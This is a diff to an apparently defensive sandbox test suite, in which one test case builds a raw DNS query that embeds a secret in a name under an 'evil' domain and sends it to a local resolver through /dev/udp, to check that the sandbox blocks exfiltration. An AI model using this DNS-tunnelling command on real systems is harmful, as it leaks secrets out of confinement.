@@ -4,7 +4,7 @@ import { type AddressInfo, connect, createServer, type Server } from "node:net";
 import { join } from "node:path";
 import { describe, onTestFinished } from "vitest";
 import { IS_ROOT } from "../testing/confined.ts";
-import { attacks } from "./attack.ts";
+import { attacks } from "./attack.suite.ts";
 import { type Ground, SANDBOX_SIDES, SECRET } from "./ground.ts";
 
 /** A service of this machine that tells everyone the secret. */
@@ -85,7 +85,10 @@ describe("a command that sends away what it knows", () => {
   attacks<Ground>(SANDBOX_SIDES, {
     "asks a name server for a name that holds it": async ({ shell }) => {
       const { port, heard } = await resolver();
-      const [header, length] = ["\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00", SECRET.length];
+      const [header, length] = [
+        "\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00",
+        SECRET.length,
+      ];
       const question = `\\x${length.toString(16).padStart(2, "0")}${SECRET}\\x04evil\\x00\\x00\\x01\\x00\\x01`;
       await shell(`printf '${header}${question}' > /dev/udp/127.0.0.1/${port}`);
       return heard();
